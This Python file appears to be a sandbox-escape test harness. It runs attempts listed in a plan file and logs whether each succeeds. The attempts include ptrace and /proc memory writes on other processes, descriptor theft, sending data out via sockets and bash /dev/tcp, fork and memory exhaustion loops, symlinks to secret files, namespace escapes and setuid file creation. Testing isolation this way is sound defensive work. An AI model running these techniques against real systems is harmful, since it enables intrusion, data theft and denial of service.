"""The program that breaks out: runs all of escapes.py and what follows here, on the targets of work/plan.json."""

# ruff: noqa: E501 - an attempt stands on a line of its own

from __future__ import annotations

import contextlib
import ctypes
import fcntl
import json
import os
import resource
import signal
import socket
import struct
import subprocess
import sys
import threading
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

try:
    from escapes import AT_FDCWD, LIBC, READS, WRITES, apart, call, fresh, here, said
except ImportError:  # not in a seat's folder, but read by the test
    from hostile.escapes import AT_FDCWD, LIBC, READS, WRITES, apart, call, fresh, here, said

Target = dict[str, Any]
OTHER = 65533 if os.getuid() == 65534 else 65534
"""Somebody else than we are."""


# Other processes: the target has pid, group, session, address, fd and a signal of its own for each attempt.


def moved_memory(name: str, t: Target, data: bytes) -> str:
    mine = ctypes.create_string_buffer(data, len(data))
    ours = struct.pack("PN", ctypes.addressof(mine), len(data))
    theirs = struct.pack("PN", t["address"], len(data))
    call(name, t["pid"], ours, 1, theirs, 1, 0)
    return mine.raw.decode("ascii", "replace")


def poked(t: Target) -> bool:
    fd = os.open(f"/proc/{t['pid']}/mem", os.O_RDWR)
    return os.pwrite(fd, b"owned", t["spot"]) == 5


def peeked(t: Target) -> str:
    return os.pread(os.open(f"/proc/{t['pid']}/mem", os.O_RDONLY), 60, t["address"]).decode()


def attached(t: Target) -> bool:
    call("ptrace", 16, t["pid"], 0, 0)
    os.waitpid(t["pid"], 0x40000000)
    return call("ptrace", 17, t["pid"], 0, 0) == 0


def borrowed(t: Target) -> str:
    fd = call("pidfd_getfd", call("pidfd_open", t["pid"], 0), t["fd"], 0)
    return os.pread(fd, 100, 0).decode()


def queued(t: Target) -> None:
    info = struct.pack("iiiiii", t["signal"], 0, -1, 0, os.getpid(), os.getuid()) + bytes(104)
    call("rt_sigqueueinfo", t["pid"], t["signal"], info)


def owned_pipe(t: Target) -> None:
    """Have the kernel send the signal: a pipe's readiness goes to whom the pipe is said to belong."""
    out, into = os.pipe()
    fcntl.fcntl(out, 10, t["signal"])  # F_SETSIG
    fcntl.fcntl(out, fcntl.F_SETOWN, t["pid"])
    fcntl.fcntl(out, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
    os.write(into, b"x")
    time.sleep(0.01)


def owned_pair(t: Target) -> None:
    """The same by ioctl, of a socket: it belongs to whom one says, and what arrives is told by SIGIO."""
    one, other = socket.socketpair()
    fcntl.ioctl(one, 0x8902, struct.pack("i", t["pid"]))  # SIOCSPGRP
    with contextlib.suppress(OSError):
        fcntl.fcntl(one, 10, t["signal"])  # F_SETSIG
    fcntl.fcntl(one, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
    other.send(b"x")
    time.sleep(0.01)


def pinned(t: Target) -> bool:
    os.sched_setaffinity(t["pid"], {0})
    return True


SIGNALS: dict[str, Callable[[Target], Any]] = {
    "kill": lambda t: os.kill(t["pid"], t["signal"]),
    "kill its group": lambda t: os.killpg(t["pgid"], t["signal"]),
    "kill minus its group": lambda t: os.kill(-t["pgid"], t["signal"]),
    "tkill": lambda t: call("tkill", t["pid"], t["signal"]),
    "tgkill": lambda t: call("tgkill", t["pid"], t["pid"], t["signal"]),
    "rt_sigqueueinfo": queued,
    "pidfd_send_signal": lambda t: call(
        "pidfd_send_signal", call("pidfd_open", t["pid"], 0), t["signal"], None, 0
    ),
    "signal of a pipe": owned_pipe,
    "signal of a pair": owned_pair,
    "kill by its program": lambda t: said("/bin/sh", "-c", f"kill -{t['signal']} {t['pid']}"),
    "everybody": lambda t: os.kill(-1, signal.SIGWINCH),
}
PROCESSES: dict[str, Callable[[Target], Any]] = {
    "attach": attached,
    "seize": lambda t: call("ptrace", 0x4206, t["pid"], 0, 0) == 0,
    "process_vm_readv": lambda t: moved_memory("process_vm_readv", t, bytes(60)),
    "process_vm_writev": lambda t: (
        moved_memory("process_vm_writev", {**t, "address": t["spot"]}, b"owned") == "owned"
    ),
    "read its memory": peeked,
    "write its memory": poked,
    "take its descriptor": borrowed,
    "open its descriptor": lambda t: Path(f"/proc/{t['pid']}/fd/{t['fd']}").read_text(),
    "its environment": lambda t: bool(Path(f"/proc/{t['pid']}/environ").read_text()),
    "its words": lambda t: Path(f"/proc/{t['pid']}/cmdline").read_text(),
    "its maps": lambda t: bool(Path(f"/proc/{t['pid']}/maps").read_text()),
    "its descriptors": lambda t: bool(os.listdir(f"/proc/{t['pid']}/fd")),
    "its folder": lambda t: bool(os.listdir(f"/proc/{t['pid']}/cwd")),
    "its root": lambda t: bool(os.listdir(f"/proc/{t['pid']}/root")),
    "its program": lambda t: bool(os.readlink(f"/proc/{t['pid']}/exe")),
    "its status": lambda t: bool(Path(f"/proc/{t['pid']}/status").read_text()),
    "list of all": lambda t: str(t["pid"]) in os.listdir("/proc"),
    "ps": lambda t: said("ps", "-o", "args=", "-p", str(t["pid"])),
    "pgrep": lambda t: str(t["pid"]) in said("pgrep", "-f", "sheep").split(),
    "kcmp": lambda t: call("kcmp", os.getpid(), t["pid"], 0, 0, 0) >= 0,
    "prlimit": lambda t: call("prlimit64", t["pid"], 7, struct.pack("QQ", 33, 33), None) == 0,
    "nice": lambda t: call("setpriority", 0, t["pid"], 7) == 0,
    "affinity": pinned,
    "scheduler": lambda t: os.sched_setscheduler(t["pid"], os.SCHED_BATCH, os.sched_param(0)) is None,
    "io priority": lambda t: call("ioprio_set", 1, t["pid"], (3 << 13)) == 0,
    "oom score": lambda t: Path(f"/proc/{t['pid']}/oom_score_adj").write_text("777") == 3,
    "its coredump": lambda t: Path(f"/proc/{t['pid']}/coredump_filter").write_text("0") == 1,
}


# The network: the target says where somebody listens, and the word to be brought there.


def brought(family: int, kind: int, to: Any, word: str, protocol: int = 0) -> bool:
    with socket.socket(family, kind, protocol) as there:
        there.settimeout(2)
        there.connect(to)
        there.sendall(word.encode())
    return False


def fast_open(t: Target) -> None:
    with socket.socket() as there:
        there.sendto(t["word"].encode(), 0x20000000, tuple(t["tcp"]))


def by_pair(t: Target, to: Any) -> None:
    """Send out of a pair of sockets, which needs no call of `socket`."""
    one, other = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    one.connect(to)
    one.send(t["word"].encode())
    other.close()


def opened(family: int, kind: int, protocol: int = 0) -> bool:
    socket.socket(family, kind, protocol).close()
    return True


def listening(family: int) -> bool:
    """Listen without a `bind`: the kernel takes any free port, at every address."""
    with socket.socket(family) as here:
        here.listen()
        return int(here.getsockname()[1]) > 0


CLIENT = "import socket, sys; s = socket.create_connection((sys.argv[1], int(sys.argv[2]))); s.send(sys.argv[3].encode())"
NODE = 'const s = require("net").connect(+process.argv[2], process.argv[1], () => s.end(process.argv[3]))'
NET: dict[str, Callable[[Target], Any]] = {
    "tcp": lambda t: brought(socket.AF_INET, socket.SOCK_STREAM, tuple(t["tcp"]), t["word"]),
    "tcp in a non-blocking socket": lambda t: brought(socket.AF_INET, socket.SOCK_STREAM | 0o4000, tuple(t["tcp"]), t["word"]),
    "tcp, version 6": lambda t: brought(socket.AF_INET6, socket.SOCK_STREAM, tuple(t["tcp6"]), t["word"]),
    "tcp, mapped": lambda t: brought(socket.AF_INET6, socket.SOCK_STREAM, ("::ffff:127.0.0.1", t["tcp"][1]), t["word"]),
    "udp": lambda t: brought(socket.AF_INET, socket.SOCK_DGRAM, tuple(t["udp"]), t["word"]),
    "udp, version 6": lambda t: brought(socket.AF_INET6, socket.SOCK_DGRAM, ("::ffff:127.0.0.1", t["udp"][1]), t["word"]),
    "multipath tcp": lambda t: brought(socket.AF_INET, socket.SOCK_STREAM, tuple(t["tcp"]), t["word"], 262),
    "fast open": fast_open,
    "unix": lambda t: brought(socket.AF_UNIX, socket.SOCK_STREAM, t["unix"], t["word"]),
    "unix datagram": lambda t: brought(socket.AF_UNIX, socket.SOCK_DGRAM, t["unixgram"], t["word"]),
    "unix by a link in work": lambda t: (os.symlink(t["unix"], n := here(t["word"])), brought(socket.AF_UNIX, socket.SOCK_STREAM, n, t["word"])),
    "unix out of a pair": lambda t: by_pair(t, t["unixgram"]),
    "abstract": lambda t: brought(socket.AF_UNIX, socket.SOCK_STREAM, "\0" + t["abstract"], t["word"]),
    "abstract datagram": lambda t: brought(socket.AF_UNIX, socket.SOCK_DGRAM, "\0" + t["abstractgram"], t["word"]),
    "abstract out of a pair": lambda t: by_pair(t, "\0" + t["abstractgram"]),
    "a name taken by a pair": lambda t: socket.socketpair()[0].bind("\0" + t["word"]) is None,
    "another program": lambda t: said(sys.executable, "-I", "-c", CLIENT, *map(str, t["tcp"]), t["word"]),
    "bash": lambda t: said("bash", "-c", f"echo {t['word']} >/dev/tcp/{t['tcp'][0]}/{t['tcp'][1]}"),
    "node": lambda t: said("node", "-e", NODE, *map(str, t["tcp"]), t["word"]),
    "fleet's own socket": lambda t: brought(socket.AF_UNIX, socket.SOCK_STREAM, t["fleet"], "") or True,
    "netlink": lambda t: opened(16, socket.SOCK_RAW),
    "raw": lambda t: opened(socket.AF_INET, socket.SOCK_RAW, 1),
    "packet": lambda t: opened(17, socket.SOCK_RAW),
    "listen": lambda t: bool(socket.create_server(("127.0.0.1", 0))),
    "listen at no port": lambda t: listening(socket.AF_INET),
    "listen at no port, version 6": lambda t: listening(socket.AF_INET6),
}  # fmt: skip


# Bounds: each gives whether it had more than it may. `most` is the bound.


def forked(t: Target, one: Callable[[], int]) -> bool:
    """Start children that wait, one after the other, until no more can be; end them all again."""
    out, into = os.pipe()
    count = 0
    with contextlib.suppress(OSError, RuntimeError):
        while count < t["most"] + 20:
            if one() == 0:
                os.close(into)
                os.read(out, 1)
                os._exit(0)
            count += 1
    os.close(into)
    with contextlib.suppress(ChildProcessError):
        while True:
            os.waitpid(-1, 0)
    return count >= t["most"]


def sessions() -> int:
    pid = os.fork()
    if pid == 0:
        os.setsid()
    return pid


def threads(t: Target) -> bool:
    gate, count = threading.Event(), 0
    with contextlib.suppress(RuntimeError):
        while count < t["most"] + 20:
            threading.Thread(target=gate.wait).start()
            count += 1
    gate.set()
    return count >= t["most"]


def spawned(t: Target) -> bool:
    kept: list[subprocess.Popen[bytes]] = []
    with contextlib.suppress(OSError):
        while len(kept) < t["most"] + 20:
            kept.append(subprocess.Popen(["sleep", "30"]))
    for one in kept:
        one.kill()
        one.wait()
    return len(kept) >= t["most"]


def swarm(t: Target) -> bool:
    """Let a shell start what it can."""
    script = f"n=0; while [ $n -lt {t['most'] + 20} ]; do sleep 3 & n=$((n+1)); echo $n; done 2>&1"
    found = said("/bin/sh", "-c", script).split()
    return max((int(word) for word in found if word.isdigit()), default=0) > t["most"]


def filled(t: Target, one: Callable[[], Any]) -> bool:
    """Take memory in pieces of 16 MB and touch it."""
    kept = []
    with contextlib.suppress(MemoryError, OSError):
        while len(kept) * 16 < t["mb"] + 64:
            kept.append(one())
    return len(kept) * 16 > t["mb"]


def broken(t: Target) -> bool:
    LIBC.sbrk.restype = ctypes.c_void_p
    took = 0
    while took <= t["mb"] + 64 and LIBC.sbrk(ctypes.c_long(16 << 20)) != ctypes.c_void_p(-1).value:
        took += 16
    return took > t["mb"]


def touched(flags: int) -> Any:
    import mmap

    pages = mmap.mmap(-1, 16 << 20, flags=flags)
    for at in range(0, 16 << 20, 4096):
        pages[at] = 1
    return pages


def many(t: Target, one: Callable[[], Any]) -> bool:
    count = 0
    with contextlib.suppress(OSError):
        while count < t["files"] + 50:
            one()
            count += 1
    return count > t["files"]


def raised(what: int, t: Target) -> bool:
    before = resource.getrlimit(what)
    resource.setrlimit(what, (before[1] + 4096, before[1] + 4096))
    return resource.getrlimit(what)[1] > before[1]


def long_file(t: Target) -> bool:
    fd = os.open(here("long"), os.O_RDWR | os.O_CREAT)
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    os.pwrite(fd, b"x", (1 << 30) + 4096)
    return os.fstat(fd).st_size > 1 << 30


def long_cut(t: Target) -> bool:
    fd = os.open(here("cut"), os.O_RDWR | os.O_CREAT)
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    os.ftruncate(fd, 3 << 30)
    return os.fstat(fd).st_size > 1 << 30


BOUNDS: dict[str, Callable[[Target], Any]] = {
    "fork": lambda t: forked(t, os.fork),
    "fork into sessions": lambda t: forked(t, sessions),
    "threads": threads,
    "spawn": spawned,
    "a shell's children": swarm,
    "bytes": lambda t: filled(t, lambda: bytearray(b"x") * (16 << 20)),
    "private maps": lambda t: filled(t, lambda: touched(0x22)),
    "the heap's end": broken,
    "dup": lambda t: many(t, lambda: os.dup(0)),
    "open": lambda t: many(t, lambda: os.open("/dev/null", os.O_RDONLY)),
    "pipes": lambda t: many(t, lambda: (os.pipe(), os.pipe())),
    "pairs": lambda t: many(t, lambda: [s.detach() for s in socket.socketpair()]),
    "memory files": lambda t: many(t, lambda: os.memfd_create("x")),
    "event descriptors": lambda t: many(t, lambda: os.eventfd(0)),
    "more descriptors by asking": lambda t: raised(resource.RLIMIT_NOFILE, t),
    "more memory by asking": lambda t: raised(resource.RLIMIT_DATA, t),
    "a file over its size": long_file,
    "a file cut over its size": long_cut,
}


# What is left to be sent, and what is its own but not to be written.


def bound_in(path: str) -> None:
    with socket.socket(socket.AF_UNIX) as there:
        there.bind(path)


OUT: dict[str, Callable[[str, str], Any]] = {
    "symbolic link": lambda o, secret: os.symlink(secret, o),
    "symbolic link to a folder": lambda o, secret: os.symlink(os.path.dirname(secret), o),
    "relative link": lambda o, secret: os.symlink("../../../fleet.yaml", o),
    "hard link": lambda o, secret: os.link(secret, o),
    "hard link out of work": lambda o, secret: os.link(fresh(o), o),
    "link moved in": lambda o, secret: (os.symlink(secret, n := here(o)), os.rename(n, o)),
    "pipe": lambda o, secret: os.mkfifo(o),
    "pipe moved in": lambda o, secret: (os.mkfifo(n := here(o) + "p"), os.rename(n, o)),
    "socket": lambda o, secret: bound_in(o),
    "device": lambda o, secret: os.mknod(o, 0o20666, os.makedev(1, 5)),
    "link by its program": lambda o, secret: said("ln", "-s", "--", secret, o),
    "link in a folder": lambda o, secret: (os.mkdir(o), os.symlink(secret, f"{o}/in")),
    "copy with links": lambda o, secret: (
        os.symlink(secret, n := here(o) + "k"),
        said("cp", "-P", "--", n, o),
    ),
}
OWN: dict[str, Callable[[str], Any]] = {
    name: WRITES[name]
    for name in (
        *(
            "open to write",
            "open to append",
            "open and cut",
            "truncate",
            "unlink",
            "move over",
            "chmod",
            "utime",
        ),
        *("hard link into work, write there", "symbolic link in work, write through", "sh", "mv", "setxattr"),
    )
}


# The kernel: each gives whether it was given what no holder may have.


def in_namespace(flag: int) -> bool:
    return call("unshare", flag) == 0


def joined(t: Target, kind: str) -> bool:
    return call("setns", os.open(f"/proc/{t['pid']}/ns/{kind}", os.O_RDONLY), 0) == 0


def mounted() -> bool:
    with contextlib.suppress(OSError):
        call("unshare", 0x20000)
        call("mount", b"none\0", b"/\0", None, 0x44000, None)
        Path("work/m").mkdir(exist_ok=True)
        return call("mount", b"t\0", b"work/m\0", b"tmpfs\0", 0, None) == 0
    return False


def watched(t: Target) -> bool:
    fd = call("inotify_init1", 0)
    return call("inotify_add_watch", fd, os.fsencode(t["folder"]) + b"\0", 0x100) > 0


def leased(t: Target) -> bool:
    return fcntl.fcntl(os.open(t["readable"], os.O_RDONLY), 1024, fcntl.F_RDLCK) == 0


def shared(get: str, remove: Callable[[int], Any], *given: int) -> bool:
    """Make something that all processes of a user share, and take it away again."""
    identity = call(get, *given)
    remove(identity)
    return identity >= 0


def queue() -> bool:
    made = call("mq_open", b"fleet-test-q\0", 0o102, 0o600, None) >= 0
    LIBC.mq_unlink(b"/fleet-test-q")
    return made


def planted(path: str) -> None:
    whole = Path(path).expanduser()
    whole.parent.mkdir(parents=True, exist_ok=True)
    whole.write_text("owned")


def marked(opened: Callable[[str], int]) -> bool:
    """Say whether a file that was made is set-uid or set-gid."""
    os.umask(0)
    return bool(os.fstat(opened(f"work/odd{time.monotonic_ns()}")).st_mode & 0o6000)


def created2(name: str) -> int:
    how = struct.pack("QQQ", os.O_CREAT | os.O_WRONLY, 0o6777, 0)
    return call("openat2", AT_FDCWD, os.fsencode(name) + b"\0", how, len(how))


def born(flags: int) -> bool:
    pid = call("clone", flags | signal.SIGCHLD, 0, 0, 0, 0)
    if pid == 0:
        os._exit(0)
    os.waitpid(pid, 0)
    return True


KERNEL: dict[str, Callable[[Target], Any]] = {
    **{f"unshare {flag:#x}": (lambda t, flag=flag: in_namespace(flag)) for flag in
       (0x20000, 0x2000000, 0x4000000, 0x8000000, 0x10000000, 0x20000000, 0x40000000)},
    **{f"clone into {flag:#x}": (lambda t, flag=flag: born(flag)) for flag in
       (0x20000, 0x2000000, 0x4000000, 0x8000000, 0x10000000, 0x20000000, 0x40000000)},
    **{f"join {kind}": (lambda t, kind=kind: joined(t, kind)) for kind in ("mnt", "net", "ipc", "uts", "pid", "cgroup")},
    "join by process": lambda t: call("setns", call("pidfd_open", t["pid"], 0), 0x4000000) == 0,
    "mount": lambda t: mounted(),
    "chroot": lambda t: call("chroot", b"work\0") == 0,
    "open_tree": lambda t: call("open_tree", AT_FDCWD, b"/\0", 1) >= 0,
    "fsopen": lambda t: call("fsopen", b"tmpfs\0", 0) >= 0,
    "bpf": lambda t: call("bpf", 0, struct.pack("IIIII", 2, 4, 4, 1, 0) + bytes(100), 120) >= 0,
    "perf_event_open": lambda t: call("perf_event_open", struct.pack("IIQ", 1, 112, 0) + bytes(96), 0, -1, -1, 0) >= 0,
    "userfaultfd": lambda t: call("userfaultfd", 1) >= 0,
    "io_uring": lambda t: call("io_uring_setup", 4, bytes(120)) >= 0,
    "add_key": lambda t: call("add_key", b"user\0", b"fleet-test\0", b"x", 1, -2) >= 0,
    "keyctl": lambda t: call("keyctl", 0, -3, 1, 0, 0) >= 0,
    "syslog": lambda t: call("syslog", 10, None, 0) >= 0,
    "sethostname": lambda t: call("unshare", 0x4000000) == 0 and call("sethostname", b"owned", 5) == 0,
    "fanotify": lambda t: call("fanotify_init", 0, 0) >= 0,
    "inotify of another folder": watched,
    "a lease on what it may read": leased,
    "shared memory": lambda t: shared("shmget", lambda i: LIBC.shmctl(i, 0, None), 0, 4096, 0o1600),
    "semaphores": lambda t: shared("semget", lambda i: LIBC.semctl(i, 0, 0), 0, 1, 0o1600),
    "message queue": lambda t: shared("msgget", lambda i: LIBC.msgctl(i, 0, None), 0, 0o1600),
    "named queue": lambda t: queue(),
    "another user": lambda t: os.setuid(OTHER) is None,
    "another group": lambda t: os.setgid(OTHER) is None,
    "other groups": lambda t: os.setgroups([OTHER]) is None,
    "higher priority": lambda t: os.nice(-3) < 0,
    "real time": lambda t: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1)) is None,
    "a low port": lambda t: bool(socket.create_server(("127.0.0.1", 873))),
    "a capability": lambda t: LIBC.prctl(24, 40, 0, 0, 0) == 0,
    "a disk": lambda t: os.mknod(f"work/disk{os.getpid()}", 0o60600, os.makedev(8, 0)) is None,
    "set-uid from the beginning": lambda t: marked(lambda n: os.open(n, os.O_CREAT | os.O_WRONLY, 0o6777)),
    "set-uid by a file without a name": lambda t: marked(lambda n: os.open("work", os.O_TMPFILE | os.O_WRONLY, 0o4777)),
    "set-uid by openat2": lambda t: marked(created2),
    "set-uid by mknod": lambda t: marked(lambda n: (os.mknod(n, 0o106777), os.open(n, os.O_RDONLY))[1]),
    "set-gid by creat": lambda t: marked(lambda n: call("creat", os.fsencode(n) + b"\0", 0o2777)),
    "devices": lambda t: bool(os.listdir("/dev")),
    "mounts": lambda t: bool(Path("/proc/self/mountinfo").read_text()),
    "kernel's settings": lambda t: bool(os.listdir("/proc/sys/kernel")),
}  # fmt: skip


def attempt(one: Target) -> Any:
    """Make one attempt; gives what it gives."""
    group, name = one["group"].removesuffix(" deep"), one["name"]
    deep = one["group"].endswith(" deep")
    if group in ("write", "read", "own"):
        return {"write": WRITES, "read": READS, "own": OWN}[group][name](one["path"])
    if group == "plant":
        return planted(one["path"])
    if group == "out":
        return OUT[name](one["path"], one["secret"])
    does = {"signal": SIGNALS, "process": PROCESSES, "net": NET, "bounds": BOUNDS, "kernel": KERNEL}[group][
        name
    ]
    return apart(lambda: does(one), deep=deep)


def main() -> int:
    """Make all attempts; what each gave stands in a line of its own."""
    plan = json.loads(Path("work/plan.json").read_text())
    for one in plan:
        if one.get("path", "").startswith("$FLEET_"):
            one["path"] = os.path.expandvars(one["path"])
    Path("work/env.json").write_text(
        json.dumps({k: v for k, v in os.environ.items() if k.startswith("FLEET_")})
    )
    signal.signal(signal.SIGALRM, lambda *_: (_ for _ in ()).throw(TimeoutError("too long")))
    os.umask(0)
    sys.stdin.close()
    for one in plan:
        line: dict[str, Any] = {"n": one["n"]}
        began = time.monotonic()
        signal.alarm(8)
        try:
            given = attempt(one)
            line["said"] = given.decode("utf-8", "replace") if isinstance(given, bytes) else str(given)
        except BaseException as exc:  # noqa: BLE001  whatever stands in its way
            line["error"] = repr(exc)[:300]
        signal.alarm(0)
        line["took"] = round(time.monotonic() - began, 1)
        with Path("work/came.jsonl").open("a") as came:
            came.write(json.dumps(line) + "\n")
        os.closerange(10, 400)
    print(f"tried {len(plan)}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
